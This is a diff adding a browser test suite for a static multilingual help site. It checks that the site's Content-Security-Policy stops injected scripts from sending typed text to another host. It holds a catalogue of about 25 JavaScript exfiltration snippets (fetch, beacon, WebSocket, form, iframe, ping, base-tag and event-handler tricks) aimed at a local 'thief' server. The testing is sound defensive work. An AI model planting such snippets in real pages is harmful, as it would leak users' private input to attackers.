@@ -1,0 +1,158 @@
+"""Sealed: whatever runs in a page, nothing that the reader typed gets out to another host."""
+
+import http.server
+import threading
+
+import pytest
+
+from macros.csp import policy
+from tests.conftest import ROOT
+
+KINDS = ["", "zh/", "ko/measures/preserve-evidence/", "zh/templates/appeal-general/", "ko/checklists/first-24-hours/", "zh/case/", "404.html"]
+
+#: What hostile code would try: each sends `SECRET` to the thief. What fails is of no interest, only what arrives.
+ATTEMPTS = {
+    "fetch": "fetch(`${thief}/fetch?SECRET`, { mode: 'no-cors' })",
+    "xhr": "const asked = new XMLHttpRequest(); asked.open('GET', `${thief}/xhr?SECRET`); asked.send()",
+    "beacon": "navigator.sendBeacon(`${thief}/beacon?SECRET`, 'SECRET')",
+    "websocket": "new WebSocket(`${thief.replace('http', 'ws')}/websocket?SECRET`)",
+    "event-source": "new EventSource(`${thief}/event-source?SECRET`)",
+    "image": "new Image().src = `${thief}/image?SECRET`",
+    "form": """
+        const form = Object.assign(document.createElement('form'), { action: `${thief}/form`, target: '_blank' });
+        form.innerHTML = '<input name=a value=SECRET>'; document.body.append(form); form.submit()""",
+    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: `${thief}/frame?SECRET` }))",
+    "object": "document.body.append(Object.assign(document.createElement('object'), { data: `${thief}/object?SECRET` }))",
+    "embed": "document.body.append(Object.assign(document.createElement('embed'), { src: `${thief}/embed?SECRET` }))",
+    "video": "document.body.append(Object.assign(document.createElement('video'), { src: `${thief}/video?SECRET`, preload: 'auto' }))",
+    "script": "document.head.append(Object.assign(document.createElement('script'), { src: `${thief}/script?SECRET` }))",
+    "module": "import(`${thief}/module?SECRET`).catch(() => {})",
+    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${thief}/worker?SECRET', { mode: 'no-cors' })`])))",
+    "style": "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${thief}/style?SECRET` }))",
+    "style-attribute": """
+        document.body.insertAdjacentHTML('beforeend', `<p style="background:url(${thief}/style-attribute?SECRET)">x</p>`)""",
+    "style-object": "document.body.style.backgroundImage = `url(${thief}/style-object?SECRET)`",
+    "font": "new FontFace('x', `url(${thief}/font?SECRET)`).load().catch(() => {})",
+    "prefetch": "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${thief}/prefetch?SECRET` }))",
+    "preload": "document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: `${thief}/preload?SECRET` }))",
+    "icon": "document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: `${thief}/icon?SECRET` }))",
+    "ping": """
+        const link = Object.assign(document.createElement('a'), { href: '#', ping: `${thief}/ping?SECRET` });
+        document.body.append(link); link.click()""",
+    "inline-script": """
+        const script = document.createElement('script');
+        script.textContent = `fetch('${thief}/inline-script?SECRET', { mode: 'no-cors' })`; document.body.append(script)""",
+    "handler": """
+        document.body.insertAdjacentHTML('beforeend', `<img src="x:" onerror="fetch('${thief}/handler?SECRET')">`)""",
+    "base": """
+        document.head.prepend(Object.assign(document.createElement('base'), { href: `${thief}/base/` }));
+        new Image().src = 'image?SECRET'""",
+}  # fmt: skip
+
+
+@pytest.fixture
+def thief():
+    """A server on another origin that notes who comes."""
+    seen = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            seen.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *arguments):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}", seen
+    server.shutdown()
+
+
+def try_everything(page, address):
+    for attempt in ATTEMPTS.values():
+        page.evaluate(f"(thief) => {{ try {{ {attempt} }} catch {{ }} }}", address)
+    page.wait_for_timeout(700)
+
+
+@pytest.mark.parametrize("path", KINDS)
+def test_hostile_code_in_the_page_gets_nothing_out(browser, server, thief, path):
+    address, seen = thief
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(f"{server}/{path}")
+    try_everything(page, address)
+    context.close()
+    assert seen == []
+
+
+def test_the_same_code_in_a_page_without_the_policy_gets_out(browser, thief, tmp_path):
+    """So that the test above means something."""
+    from tests.conftest import serve
+
+    (tmp_path / "index.html").write_text("<!doctype html><title>open</title><body>open", encoding="utf-8")
+    running, open_server = serve(tmp_path)
+    address, seen = thief
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(f"{open_server}/")
+    try_everything(page, address)
+    context.close()
+    running.shutdown()
+    arrived = {path.split("?")[0].split("/")[1] for path in seen}
+    assert arrived >= {"fetch", "xhr", "beacon", "websocket", "image", "form", "frame", "worker", "script", "style", "ping", "base", "inline-script"}
+
+
+def test_typed_words_stay_in_the_browser(readers, server):
+    """A letter is filled in, copied and downloaded: every request goes to the site and carries none of it."""
+    reader = readers()
+    reader.allow_copying()
+    asked = []
+    reader.page.on("request", lambda request: asked.append((request.url, request.post_data or "")))
+    page = reader.open("zh/templates/appeal-general/")
+    page.locator("[name=store_name]").fill("비밀상점")
+    page.wait_for_timeout(400)
+    for action in ("copy", "download-txt"):
+        button = page.locator(f"[data-action={action}]").first
+        if button.count() and button.is_enabled():
+            button.click()
+    page.locator("input[name=query]").fill("비밀상점")
+    page.wait_for_timeout(400)
+    assert all(url.startswith((server, "blob:", "data:")) for url, _ in asked)
+    assert not [url for url, data in asked if "비밀" in url + data or "%EB%B9%84%EB%B0%80" in url + data]
+    assert reader.context.cookies() == []
+    assert all(key.startswith("playbook.") for key in page.evaluate("Object.keys(localStorage)"))
+
+
+@pytest.mark.parametrize("path", KINDS[:-1])
+def test_no_page_sets_a_cookie_or_asks_another_host(reader, path):
+    """The reader fixture fails on any request to another host."""
+    reader.open(path)
+    assert reader.context.cookies() == []
+    assert reader.page.evaluate("Object.keys(localStorage).concat(Object.keys(sessionStorage))") in ([], ["playbook.v1"])
+
+
+def test_every_page_carries_the_policy_before_anything_that_it_governs(site):
+    expected = policy(ROOT)
+    for path in site.rglob("*.html"):
+        text = path.read_text(encoding="utf-8")
+        if 'http-equiv="refresh"' in text:
+            continue  # an old address: it loads nothing
+        head = text[: text.index("</head>")]
+        assert f'<meta http-equiv="Content-Security-Policy" content="{expected}">' in head, path
+        first = min(head.index(tag) for tag in ("<link", "<script") if tag in head)
+        assert head.index("Content-Security-Policy") < first, path
+
+
+def test_the_policy_allows_the_site_and_nothing_else():
+    rules = dict(rule.split(" ", 1) for rule in policy(ROOT).split("; "))
+    assert rules["default-src"] == rules["form-action"] == rules["base-uri"] == "'none'"
+    allowed = {word for rule in rules.values() for word in rule.split()}
+    assert {word for word in allowed if not word.startswith("'sha256-")} == {"'none'", "'self'", "data:"}
+    assert "data:" not in rules["script-src"]
+    assert "frame-ancestors 'none'" in policy(ROOT, header=True)
